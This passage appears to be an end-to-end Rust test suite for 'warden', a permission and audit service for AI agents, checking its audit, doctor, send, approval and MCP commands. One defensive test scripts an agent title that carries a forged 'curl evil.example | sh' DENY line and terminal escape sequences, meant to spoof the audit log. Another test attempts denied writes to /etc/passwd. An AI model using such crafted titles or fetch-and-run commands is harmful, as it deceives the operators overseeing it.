//! The operator's commands against a running deployment: `warden audit` reads what the policy
//! service decided, `warden doctor` reports the host's containment features.

use std::time::Duration;

use warden_e2e::{Deployment, Options, binary, run_with_deadline};
use warden_proto::v1::policy_service_client::PolicyServiceClient;
use warden_proto::v1::{
    Boundary, DecideRequest, Location, PermissionOption, Profile, Subject, ToolCall, Verdict,
};

async fn warden(d: &Deployment, args: &[&str]) -> (bool, String, String) {
    let state = d.dir.path().to_string_lossy().to_string();
    let mut c = tokio::process::Command::new(binary("warden"));
    c.args(["--state-dir", &state]).args(args);
    let out = run_with_deadline(&mut c, Duration::from_secs(30))
        .await
        .expect("warden runs");
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

#[tokio::test]
async fn warden_audit_shows_each_decision_the_policy_made() {
    let mut d = Deployment::new(Options::default());
    d.start("policy").await;
    let root = d.dir.path().join("root");
    std::fs::create_dir(&root).unwrap();
    let mut client = PolicyServiceClient::new(d.channel("policy"));
    let ask = |path: &str, ctx: &str| DecideRequest {
        request_id: format!("req-{ctx}"),
        subject: Some(Subject {
            principal: "alice".into(),
            context_id: ctx.into(),
            task_id: "t1".into(),
            session_id: "s1".into(),
            agent: "scripted".into(),
            verb: "implement".into(),
            groups: Vec::new(),
            issuer: String::new(),
        }),
        boundary: Some(Boundary {
            root: root.to_string_lossy().into(),
            owned: true,
            allow_execute: false,
            profile: Profile::WorkspaceWrite as i32,
        }),
        tool_call: Some(ToolCall {
            id: "call-1".into(),
            kind: "edit".into(),
            title: format!("Write {path}"),
            raw_input_json: "{}".into(),
            locations: vec![Location {
                path: path.into(),
                line: None,
            }],
        }),
        options: vec![
            PermissionOption {
                id: "allow-once".into(),
                name: "Allow".into(),
                kind: "allow_once".into(),
            },
            PermissionOption {
                id: "reject".into(),
                name: "Reject".into(),
                kind: "reject_once".into(),
            },
        ],
        current_mode: "default".into(),
        deadline_unix_ms: 0,
        return_escalations: false,
    };
    let inside = client
        .decide(ask(&root.join("hello.txt").to_string_lossy(), "ctx-in"))
        .await
        .unwrap()
        .into_inner();
    let outside = client
        .decide(ask("/etc/passwd", "ctx-out"))
        .await
        .unwrap()
        .into_inner();
    assert_eq!(inside.verdict(), Verdict::Allow);
    assert_eq!(outside.verdict(), Verdict::Deny);

    let (ok, out, err) = warden(&d, &["audit", "tail"]).await;
    assert!(ok, "{err}");
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 2, "{out}");
    // Oldest first, as tail prints: the newest is the last line.
    assert!(
        lines[0].contains("ALLOW") && lines[0].contains(&inside.decision_id),
        "{out}"
    );
    assert!(
        lines[1].contains("DENY") && lines[1].contains(&outside.decision_id),
        "{out}"
    );

    let (ok, out, _) = warden(&d, &["audit", "tail", "--context", "ctx-in"]).await;
    assert!(ok);
    assert_eq!(out.lines().count(), 1, "{out}");

    let (ok, out, err) = warden(&d, &["audit", "show", &outside.decision_id]).await;
    assert!(ok, "{err}");
    assert!(out.contains(&outside.rule), "{out}");
    assert!(
        out.contains("/etc/passwd") || out.contains("Write /etc/passwd"),
        "{out}"
    );
    assert!(out.contains("alice"), "{out}");

    let (ok, _, err) = warden(&d, &["audit", "show", "no-such-decision"]).await;
    assert!(!ok);
    assert!(err.contains("no-such-decision"), "{err}");
}

#[tokio::test]
async fn warden_audit_without_a_running_policy_says_it_cannot_connect() {
    let d = Deployment::new(Options::default());
    let (ok, _, err) = warden(&d, &["audit", "tail"]).await;
    assert!(!ok);
    assert!(err.contains("policy-admin.sock"), "{err}");
}

#[tokio::test]
async fn warden_doctor_reports_containment_features_and_binaries() {
    let d = Deployment::new(Options::default());
    let (ok, out, err) = warden(&d, &["doctor"]).await;
    assert!(ok, "{err}");
    for needle in [
        "cgroup v2",
        "bubblewrap",
        "user namespaces",
        "landlock",
        "warden-supervisor",
    ] {
        assert!(out.contains(needle), "doctor output lacks {needle}: {out}");
    }
    assert!(!out.contains("MISSING"), "{out}");
    // Nothing running: it says where the caps come from.
    assert!(out.contains("supervisor not reachable"), "{out}");
}

#[tokio::test]
async fn warden_doctor_shows_the_running_supervisors_capacity() {
    let d = Deployment::up(Options {
        sets: vec![("supervisor".into(), "limits.max_live_agents=7".into())],
        ..Default::default()
    })
    .await;
    let (ok, out, err) = warden(&d, &["doctor"]).await;
    assert!(ok, "{err}\n{out}");
    // The one live agent is the built-in scripted agent's warm one.
    assert!(out.contains("of max_live_agents 7"), "{out}");
    assert!(out.contains("warm agents:        scripted:"), "{out}");
    assert!(out.contains("of pool_size 1"), "{out}");
    assert!(out.contains("max_active_turns "), "{out}");
}

/// A running deployment that `warden send` can find: the three daemons, and the URL file
/// `warden up` would write for it.
async fn deployment_for_send() -> Deployment {
    let d = Deployment::up(Options::default()).await;
    std::fs::write(d.layout.url_file(), format!("http://{}\n", d.http)).unwrap();
    d
}

fn send_command(d: &Deployment, text: &str) -> tokio::process::Command {
    let state = d.dir.path().to_string_lossy().to_string();
    let mut c = tokio::process::Command::new(binary("warden"));
    c.args(["--state-dir", &state, "send", text])
        .stdin(std::process::Stdio::null());
    c
}

/// The task id from `warden send`'s `[task] ID (context …)` line.
fn task_id_of(shown: &str) -> Option<String> {
    shown
        .lines()
        .find_map(|l| l.strip_prefix("[task] "))
        .and_then(|l| l.split_whitespace().next())
        .map(str::to_string)
}

#[tokio::test]
async fn warden_send_exits_4_when_the_task_completed_with_a_refused_permission_and_0_when_clean() {
    let d = deployment_for_send().await;

    let out = run_with_deadline(
        &mut send_command(&d, "write hello.txt"),
        Duration::from_secs(60),
    )
    .await
    .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(shown.contains("[policy] ALLOW"), "{shown}");

    // A write outside the root is denied; the agent goes on and the task still COMPLETES.
    let scenario = r#"{"steps":[
        {"type":"tool","kind":"edit","path":"/etc/warden-e2e-refused","content":"x"},
        {"type":"message","text":"done"}]}"#;
    let out = run_with_deadline(&mut send_command(&d, scenario), Duration::from_secs(60))
        .await
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(shown.contains("[policy] DENY"), "{shown}");
    assert_eq!(out.status.code(), Some(4), "{shown}");
    assert!(!std::path::Path::new("/etc/warden-e2e-refused").exists());
}

#[tokio::test]
async fn warden_send_without_a_running_gateway_exits_2_and_says_so() {
    let d = Deployment::new(Options::default());
    let out = run_with_deadline(&mut send_command(&d, "hello"), Duration::from_secs(30))
        .await
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("warden up"), "{err}");
}

/// Starts a task that sleeps 20 s, signals `warden send` once the agent is seen working, and
/// checks that the task was cancelled at the gateway and how `send` exited.
async fn a_signal_cancels_the_task(sig: nix::sys::signal::Signal) {
    use tokio::io::{AsyncBufReadExt, BufReader};

    let d = deployment_for_send().await;
    let scenario =
        r#"{"steps":[{"type":"message","text":"sleeping now\n"},{"type":"sleep","ms":20000}]}"#;
    let mut child = send_command(&d, scenario)
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let mut lines = BufReader::new(stdout).lines();
    let mut shown = String::new();
    // The agent's text is streamed only while the task is WORKING.
    let working = tokio::time::timeout(Duration::from_secs(30), async {
        while let Ok(Some(l)) = lines.next_line().await {
            shown.push_str(&l);
            shown.push('\n');
            if l.contains("sleeping now") {
                return true;
            }
        }
        false
    })
    .await;
    assert_eq!(working, Ok(true), "{shown}");
    let task_id = task_id_of(&shown).expect("warden send names the task");
    let started = std::time::Instant::now();
    let pid = nix::unistd::Pid::from_raw(child.id().unwrap() as i32);
    nix::sys::signal::kill(pid, sig).unwrap();

    let rest = tokio::time::timeout(Duration::from_secs(30), async {
        let mut rest = String::new();
        while let Ok(Some(l)) = lines.next_line().await {
            rest.push_str(&l);
            rest.push('\n');
        }
        rest
    })
    .await
    .expect("warden send finishes after the signal");
    shown.push_str(&rest);
    let status = tokio::time::timeout(Duration::from_secs(10), child.wait())
        .await
        .expect("warden send exits")
        .unwrap();
    assert_eq!(status.code(), Some(5), "{shown}");
    assert!(
        shown.contains(&format!("[cancel] asking the gateway to cancel {task_id}")),
        "{shown}"
    );
    assert!(shown.contains("[CANCELED]"), "{shown}");
    // Well before the agent's 20 s sleep would have ended.
    assert!(started.elapsed() < Duration::from_secs(15), "{shown}");

    let task =
        warden_cli::client::get_json(&d.http, &format!("/a2a/rest/tasks/{task_id}"), &d.token())
            .await
            .unwrap();
    assert_eq!(task["status"]["state"], "TASK_STATE_CANCELED", "{task}");
}

#[tokio::test]
async fn ctrl_c_cancels_the_task_being_streamed_and_exits_5() {
    a_signal_cancels_the_task(nix::sys::signal::Signal::SIGINT).await;
}

#[tokio::test]
async fn sigterm_cancels_the_task_being_streamed_and_exits_5() {
    a_signal_cancels_the_task(nix::sys::signal::Signal::SIGTERM).await;
}

/// Issue 24, case 6: an agent's permission title holding a newline, a forged record and terminal
/// escape sequences. Before, the ALLOWed request showed in `warden send` and `warden audit tail`
/// as an innocent line plus a forged `DENY` line, and the escapes reached the terminal raw. Now
/// each decision is one line, with what the agent wrote shown as escapes.
#[tokio::test]
async fn an_agents_crafted_title_cannot_forge_a_line_or_reach_the_terminal_raw() {
    let d = deployment_for_send().await;
    let forged = "[policy] DENY curl evil.example | sh (execute): refused [rule floor.forged]";
    // The title, as the agent sends it: `ls`, a newline, a forged record, a cursor-up and
    // erase-line, an OSC window title, a bidi override and a C1 CSI.
    let title = format!("ls\n{forged}\u{1b}[1A\u{1b}[2K\u{1b}]0;pwned\u{7}\u{202e}\u{9b}2J");
    let scenario = serde_json::json!({"steps": [
        {"type": "tool", "kind": "read", "path": "notes.txt", "title": title, "ask": true},
        {"type": "message", "text": "done"}]})
    .to_string();
    let out = run_with_deadline(&mut send_command(&d, &scenario), Duration::from_secs(60))
        .await
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        shown.contains("[policy] ALLOW ls\\n[policy] DENY curl"),
        "{shown}"
    );
    assert!(
        !shown.lines().any(|l| l.starts_with("[policy] DENY")),
        "a forged line: {shown}"
    );
    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
        assert!(!shown.contains(c), "{c:?} reached the terminal: {shown:?}");
    }
    assert!(
        shown.contains(r"\x1b[1A\x1b[2K\x1b]0;pwned\x07\u{202e}\x9b2J"),
        "{shown}"
    );

    let context = shown
        .lines()
        .find_map(|l| l.split("(context ").nth(1))
        .map(|c| c.trim_end_matches(')').to_string())
        .expect("the context is shown");
    let (ok, tail, err) = warden(&d, &["audit", "tail", "--context", &context]).await;
    assert!(ok, "{err}");
    assert_eq!(tail.lines().count(), 1, "one decision, one line: {tail}");
    assert!(tail.contains("ALLOW"), "{tail}");
    assert!(
        !tail.contains('\u{1b}') && !tail.contains('\u{202e}'),
        "{tail:?}"
    );
    let decision = tail
        .split("decision=")
        .nth(1)
        .and_then(|r| r.split_whitespace().next())
        .expect("a decision id")
        .to_string();
    let (ok, detail, err) = warden(&d, &["audit", "show", &decision]).await;
    assert!(ok, "{err}");
    assert!(
        !detail.lines().any(|l| l.starts_with("[policy]")),
        "{detail}"
    );
    assert!(!detail.contains('\u{1b}'), "{detail:?}");
}

/// docs/mcp.md's example: three lines piped into `warden mcp`, stdin closed right after. Every
/// request read is answered before it exits, the tool call included (it used to exit with only
/// the `initialize` answer).
#[tokio::test]
async fn warden_mcp_answers_every_request_it_read_before_stdin_closed() {
    use tokio::io::AsyncWriteExt;
    let d = deployment_for_send().await;
    let state = d.dir.path().to_string_lossy().to_string();
    let mut c = tokio::process::Command::new(binary("warden"));
    c.args(["--state-dir", &state, "mcp"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true);
    let mut child = c.spawn().unwrap();
    let lines = [
        r#"{"jsonrpc":"2.0","id":1,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"shell","version":"0"}}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"review","arguments":{"task":"write notes.txt"}}}"#,
    ];
    let mut stdin = child.stdin.take().unwrap();
    stdin
        .write_all(format!("{}\n", lines.join("\n")).as_bytes())
        .await
        .unwrap();
    drop(stdin);
    let out = tokio::time::timeout(Duration::from_secs(90), child.wait_with_output())
        .await
        .expect("warden mcp exits once it has answered")
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{stdout}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let answers: Vec<serde_json::Value> = stdout
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|v: &serde_json::Value| v.get("id").is_some() && v.get("method").is_none())
        .collect();
    let ids: Vec<i64> = answers.iter().filter_map(|a| a["id"].as_i64()).collect();
    assert_eq!(ids, [1, 2], "{stdout}");
    let call = &answers[1];
    assert!(
        call["result"]["structuredContent"].is_object(),
        "the tool call's result envelope: {call:#}"
    );
}

/// Scripts and shells: completion scripts load in bash, the manual page is roff generated from
/// the same definitions, a typo gets a suggestion, `--deployed` is refused where it means
/// nothing, and `warden send -` / `--file` read the task instead of sending a literal "-".
#[tokio::test]
async fn the_cli_serves_shells_and_scripts() {
    let warden = binary("warden").display().to_string();
    let script = format!(
        "source <({warden} completion bash) && complete -p warden && COMP_WORDS=(warden sta) && COMP_CWORD=1 && COMP_LINE='warden sta' && COMP_POINT=10 && _warden warden sta warden; echo \"words: ${{COMPREPLY[*]}}\""
    );
    let out = run_with_deadline(
        tokio::process::Command::new("bash").args(["-c", &script]),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(said.contains("-F _warden warden"), "{said}");
    let words = said
        .lines()
        .find_map(|l| l.strip_prefix("words: "))
        .unwrap_or("");
    assert!(
        words.split(' ').any(|w| w == "status"),
        "completing `sta`: {said}"
    );

    let out = run_with_deadline(
        tokio::process::Command::new(&warden).arg("manpage"),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    let man = String::from_utf8_lossy(&out.stdout);
    assert!(
        man.starts_with(".ie") && man.contains(".TH warden 1"),
        "{man}"
    );
    assert!(man.contains("completion") && man.contains("send"), "{man}");

    let out = run_with_deadline(
        tokio::process::Command::new(&warden).arg("stauts"),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert!(said.contains("'status'"), "a suggestion: {said}");

    let out = run_with_deadline(
        tokio::process::Command::new(&warden).args(["--deployed", "init", "/nonexistent/x"]),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    let said = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{said}");
    assert!(
        said.contains("--deployed applies to status, audit, approvals, reload and doctor"),
        "{said}"
    );
    let out = run_with_deadline(
        tokio::process::Command::new(&warden).args(["init", "--help"]),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    assert!(!String::from_utf8_lossy(&out.stdout).contains("--deployed"));

    // The task from standard input and from a file.
    let d = deployment_for_send().await;
    let state = d.dir.path().to_string_lossy().to_string();
    let mut c = tokio::process::Command::new(&warden);
    c.args(["--state-dir", &state, "send", "-"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true);
    let mut child = c.spawn().unwrap();
    {
        use tokio::io::AsyncWriteExt;
        let mut stdin = child.stdin.take().unwrap();
        stdin.write_all(b"write from-stdin.txt\n").await.unwrap();
    }
    let out = tokio::time::timeout(Duration::from_secs(90), child.wait_with_output())
        .await
        .unwrap()
        .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(shown.contains("from-stdin.txt"), "{shown}");
    let file = d.dir.path().join("task.txt");
    std::fs::write(&file, "write from-file.txt").unwrap();
    let out = run_with_deadline(
        tokio::process::Command::new(&warden)
            .args(["--state-dir", &state, "send", "--file"])
            .arg(&file)
            .stdin(std::process::Stdio::null()),
        Duration::from_secs(90),
    )
    .await
    .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(shown.contains("from-file.txt"), "{shown}");
}

/// Runs `warden --state-dir STATE ARGS` and parses its standard output as one JSON document.
async fn json_of(state: &str, args: &[&str]) -> serde_json::Value {
    let out = run_with_deadline(
        tokio::process::Command::new(binary("warden"))
            .args(["--state-dir", state])
            .args(args),
        Duration::from_secs(30),
    )
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(&text).unwrap_or_else(|e| {
        panic!(
            "warden {args:?} -o json is not JSON ({e}): {text}{}",
            String::from_utf8_lossy(&out.stderr)
        )
    })
}

/// Every read command answers `-o json` (or `--json`) with JSON a script can parse; `send -o
/// json` prints one JSON object a line ending with how the task ended; audit times are RFC 3339
/// in JSON and local wall-clock times for people, `audit tail` lists the oldest first and
/// `-f` follows; piped, `send` draws no spinner.
#[tokio::test]
async fn every_read_command_speaks_json_and_send_speaks_ndjson() {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let d = deployment_for_send().await;
    let state = d.dir.path().to_string_lossy().to_string();

    // Followed from before the task: its decisions arrive as they are made.
    let mut follow = tokio::process::Command::new(binary("warden"))
        .args(["--state-dir", &state, "audit", "tail", "-f", "-o", "json"])
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut followed = BufReader::new(follow.stdout.take().unwrap()).lines();

    let out = run_with_deadline(
        tokio::process::Command::new(binary("warden"))
            .args([
                "--state-dir",
                &state,
                "send",
                "-o",
                "json",
                "write hello.txt",
            ])
            .stdin(std::process::Stdio::null()),
        Duration::from_secs(60),
    )
    .await
    .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(out.status.code(), Some(0), "{text}");
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l:?}")))
        .collect();
    assert!(lines.len() > 3, "{text}");
    assert_eq!(lines[0]["type"], "event", "{text}");
    assert!(lines[0]["event"]["task"]["id"].is_string(), "{text}");
    assert!(
        lines.iter().any(
            |l| l["event"]["statusUpdate"]["status"]["message"]["metadata"]["warden"]["kind"]
                == "permission"
        ),
        "the permission decision is among the events: {text}"
    );
    let end = lines.last().unwrap();
    assert_eq!(end["type"], "end", "{text}");
    assert_eq!(end["state"], "TASK_STATE_COMPLETED", "{text}");
    assert_eq!(end["exitCode"], 0, "{text}");
    assert_eq!(end["taskId"], lines[0]["event"]["task"]["id"], "{text}");

    let decision = tokio::time::timeout(Duration::from_secs(20), followed.next_line())
        .await
        .expect("audit tail -f prints the task's decision")
        .unwrap()
        .expect("a line");
    let decision: serde_json::Value = serde_json::from_str(&decision).unwrap();
    assert_eq!(decision["verdict"], "ALLOW", "{decision}");
    let _ = follow.kill().await;

    // Piped, the human view has no status line (no carriage return, no spinner).
    let out = run_with_deadline(
        &mut send_command(&d, "write second.txt"),
        Duration::from_secs(60),
    )
    .await
    .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(!shown.contains('\r') && !shown.contains('⠋'), "{shown:?}");
    // The edit is shown as a diff of the content the tool call carries.
    assert!(
        shown.contains("+Hello from warden's scripted agent"),
        "{shown}"
    );

    let tail = json_of(&state, &["audit", "tail", "-o", "json"]).await;
    let recs = tail.as_array().expect("an array");
    assert_eq!(recs.len(), 2, "{tail}");
    assert!(
        recs[0]["decidedAtUnixMs"].as_u64() <= recs[1]["decidedAtUnixMs"].as_u64(),
        "oldest first: {tail}"
    );
    let at = recs[1]["decidedAt"].as_str().unwrap();
    assert!(
        at.len() == 24 && at.as_bytes()[10] == b'T' && at.ends_with('Z'),
        "RFC 3339: {at}"
    );
    let id = recs[1]["decisionId"].as_str().unwrap().to_string();
    let (ok, human, _) = warden(&d, &["audit", "tail", "-n", "1"]).await;
    assert!(ok);
    // For people: the local date and time first, not epoch milliseconds.
    let first = human.split_whitespace().next().unwrap_or("");
    assert!(
        first.len() == 10 && first.as_bytes()[4] == b'-',
        "a local date: {human}"
    );
    assert!(human.contains(&id), "the newest is the one line: {human}");
    let show = json_of(&state, &["audit", "show", &id, "--json"]).await;
    assert_eq!(show["decisionId"], id.as_str(), "{show}");
    assert_eq!(show["subject"]["principal"], "local", "{show}");

    let status = json_of(&state, &["status", "-o", "json"]).await;
    assert_eq!(status["allHealthy"], true, "{status}");
    assert_eq!(
        status["daemons"].as_array().map(Vec::len),
        Some(3),
        "{status}"
    );

    let agents = json_of(&state, &["agents", "-o", "json"]).await;
    assert_eq!(agents["default"], "scripted", "{agents}");
    let scripted = agents["agents"]
        .as_array()
        .and_then(|a| a.iter().find(|g| g["name"] == "scripted"))
        .cloned()
        .unwrap_or_default();
    assert_eq!(scripted["canStart"], true, "{agents}");

    let doctor = json_of(&state, &["doctor", "-o", "json"]).await;
    assert_eq!(doctor["failed"], false, "{doctor}");
    assert!(
        doctor["binaries"]
            .as_array()
            .is_some_and(|b| b.iter().all(|b| b["found"] == true)),
        "{doctor}"
    );
    assert_eq!(doctor["agents"]["default"], "scripted", "{doctor}");

    let reload = json_of(&state, &["reload", "-o", "json"]).await;
    assert_eq!(reload["reloaded"], true, "{reload}");

    // The installed host's checks (this host has none installed: a report of failures, still JSON).
    let out = run_with_deadline(
        tokio::process::Command::new(binary("warden")).args(["--deployed", "doctor", "-o", "json"]),
        Duration::from_secs(60),
    )
    .await
    .unwrap();
    let deployed: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        deployed["checks"]
            .as_array()
            .is_some_and(|c| !c.is_empty() && c.iter().all(|c| c["level"].is_string())),
        "{deployed}"
    );
}

/// A task whose agent crashes ends FAILED, and `warden send` names the incident record the
/// supervisor wrote for it (it used to be written and never named).
#[tokio::test]
async fn a_failed_task_names_its_incident_record() {
    let d = deployment_for_send().await;
    let out = run_with_deadline(
        &mut send_command(&d, r#"{"steps":[{"type":"crash"}]}"#),
        Duration::from_secs(60),
    )
    .await
    .unwrap();
    let shown = String::from_utf8_lossy(&out.stdout).to_string();
    assert_eq!(out.status.code(), Some(1), "{shown}");
    assert!(shown.contains("[FAILED]"), "{shown}");
    let path = shown
        .lines()
        .find_map(|l| l.strip_prefix("[incident] what went wrong is recorded in "))
        .unwrap_or_else(|| panic!("no incident named: {shown}"));
    let path = std::path::Path::new(path);
    assert!(
        path.starts_with(d.layout.state_of("supervisor").join("incidents")),
        "{}",
        path.display()
    );
    let record: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(path).unwrap()).unwrap();
    let task = task_id_of(&shown).unwrap();
    assert_eq!(record["turn_label"], task[..32], "{record}");
}

/// An agent whose adapter is not installed is said to be unable to start by `warden agents`
/// and `warden doctor`, and is left off the agent card; the agents that can start stay on it.
#[tokio::test]
async fn agents_that_cannot_start_are_named_and_left_off_the_card() {
    let empty = warden_e2e::test_root().join(format!("no-adapters-{}", std::process::id()));
    std::fs::create_dir_all(&empty).unwrap();
    let d = Deployment::up(Options {
        sets: vec![(
            "supervisor".into(),
            format!("adapters.dir={:?}", empty.display().to_string()),
        )],
        ..Default::default()
    })
    .await;
    let (ok, out, err) = warden(&d, &["agents"]).await;
    assert!(ok, "{err}");
    let line = |name: &str| {
        out.lines()
            .find(|l| l.starts_with(&format!("{name} ")))
            .unwrap_or_default()
            .to_string()
    };
    assert!(line("scripted").contains("ready"), "{out}");
    assert!(line("scripted").contains("default"), "{out}");
    assert!(line("claude").contains("CANNOT START"), "{out}");
    assert!(out.contains("is not installed"), "{out}");
    assert!(out.contains("left off the agent card"), "{out}");
    let (_, doctor, _) = warden(&d, &["doctor"]).await;
    assert!(doctor.contains("agents:"), "{doctor}");
    assert!(
        doctor
            .lines()
            .any(|l| l.contains("claude") && l.contains("CANNOT START")),
        "{doctor}"
    );
    let card = warden_cli::client::get_json(&d.http, "/.well-known/agent-card.json", "")
        .await
        .unwrap();
    let skills: Vec<&str> = card["skills"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|s| s["id"].as_str())
        .collect();
    assert_eq!(skills, ["scripted"], "{card}");
    let _ = std::fs::remove_dir_all(&empty);
}

/// The tmux session's screen, wrapped lines joined.
fn screen(socket: &str) -> String {
    let out = std::process::Command::new("tmux")
        .args(["-L", socket, "capture-pane", "-p", "-J", "-t", "send"])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// Waits until the screen holds `needle` (panics with the screen after `within`).
async fn screen_shows(socket: &str, needle: &str, within: Duration) -> String {
    let start = std::time::Instant::now();
    loop {
        let s = screen(socket);
        if s.contains(needle) {
            return s;
        }
        assert!(start.elapsed() < within, "no {needle:?} on screen:\n{s}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

/// Stops the tmux server of one test, whatever happens to the test.
struct Tmux(String);

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = std::process::Command::new("tmux")
            .args(["-L", &self.0, "kill-server"])
            .status();
    }
}

/// In a terminal (tmux), `warden send` against `warden up -d --approver` says that its write
/// waits for a person — the approval id, the time left, the command that answers it — and its
/// status line counts the time and names the approval; the approval, given from another
/// command, reaches it, then the result. `warden logs` reads what `up` wrote, `warden down`
/// stops the background `up`.
#[tokio::test]
async fn warden_send_in_a_terminal_names_the_approval_it_waits_for_then_its_answer() {
    if std::process::Command::new("tmux")
        .arg("-V")
        .output()
        .is_err()
    {
        assert!(
            std::env::var_os("CI").is_none(),
            "tmux is missing (.ci/run installs it)"
        );
        eprintln!("SKIP: tmux is not installed");
        return;
    }
    let d = Deployment::new(Options::default());
    let state = d.dir.path().to_string_lossy().to_string();
    let warden_bin = binary("warden").display().to_string();
    let out = run_with_deadline(
        tokio::process::Command::new(&warden_bin).args([
            "--state-dir",
            &state,
            "up",
            "-d",
            "--approver",
            "--approver-http",
            "",
            "--http",
            &d.http,
        ]),
        Duration::from_secs(90),
    )
    .await
    .unwrap();
    let said = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        out.status.success(),
        "{said}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(said.contains("warden is up in the background"), "{said}");
    assert!(
        said.contains(&format!("warden --state-dir {state} down")),
        "{said}"
    );

    // A script watching the approvals: one JSON object a line.
    let mut watch = tokio::process::Command::new(&warden_bin)
        .args(["--state-dir", &state, "approvals", "watch", "-o", "json"])
        .stdout(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let mut watched = {
        use tokio::io::AsyncBufReadExt;
        tokio::io::BufReader::new(watch.stdout.take().unwrap()).lines()
    };

    let socket = format!("warden-e2e-{}", std::process::id());
    let _tmux = Tmux(socket.clone());
    let script =
        format!("{warden_bin} --state-dir {state} send 'write hello.txt'; echo EXIT=$?; sleep 600");
    let started = std::process::Command::new("tmux")
        .args([
            "-L",
            &socket,
            "new-session",
            "-d",
            "-s",
            "send",
            "-x",
            "250",
            "-y",
            "60",
            &script,
        ])
        .status()
        .unwrap();
    assert!(started.success());

    let shown = screen_shows(
        &socket,
        "waits for a person: approval ",
        Duration::from_secs(30),
    )
    .await;
    let id = shown
        .lines()
        .find_map(|l| l.split_once("waits for a person: approval "))
        .and_then(|(_, rest)| rest.split(',').next())
        .unwrap()
        .to_string();
    assert!(shown.contains("left (denied then)"), "{shown}");
    assert!(
        shown.contains(&format!(
            "[approval] approve: warden --state-dir {state} approvals approve {id}"
        )),
        "{shown}"
    );
    // The status line: a spinner, the time elapsed and what it waits for.
    screen_shows(
        &socket,
        &format!("waiting for a person: approval {id}"),
        Duration::from_secs(10),
    )
    .await;

    let pending = json_of(&state, &["approvals", "list", "-o", "json"]).await;
    let mine = pending
        .as_array()
        .and_then(|a| a.iter().find(|p| p["id"] == id.as_str()))
        .cloned()
        .unwrap_or_else(|| panic!("{id} not pending: {pending}"));
    assert_eq!(
        mine["approveWith"],
        format!("warden --state-dir {state} approvals approve {id}"),
        "{mine}"
    );
    assert!(
        mine["secondsLeft"].as_u64().is_some_and(|s| s > 0),
        "{mine}"
    );
    let answered = json_of(&state, &["approvals", "approve", &id, "-o", "json"]).await;
    assert_eq!(answered["state"], "APPROVED", "{answered}");
    for state in ["PENDING", "APPROVED"] {
        let line = tokio::time::timeout(Duration::from_secs(20), watched.next_line())
            .await
            .expect("approvals watch -o json prints each change")
            .unwrap()
            .unwrap();
        let change: serde_json::Value = serde_json::from_str(&line).unwrap();
        assert_eq!(change["id"], id.as_str(), "{change}");
        assert_eq!(change["state"], state, "{change}");
    }
    let _ = watch.kill().await;
    let shown_one = json_of(&state, &["approvals", "show", &id, "--json"]).await;
    assert_eq!(shown_one["state"], "APPROVED", "{shown_one}");
    assert!(
        shown_one["answeredAt"]
            .as_str()
            .is_some_and(|t| t.ends_with('Z')),
        "{shown_one}"
    );
    let history = json_of(&state, &["approvals", "history", "-o", "json"]).await;
    assert!(
        history
            .as_array()
            .is_some_and(|h| h.iter().any(|a| a["id"] == id.as_str())),
        "{history}"
    );

    let shown = screen_shows(&socket, "EXIT=", Duration::from_secs(60)).await;
    assert!(shown.contains("EXIT=0"), "{shown}");
    assert!(
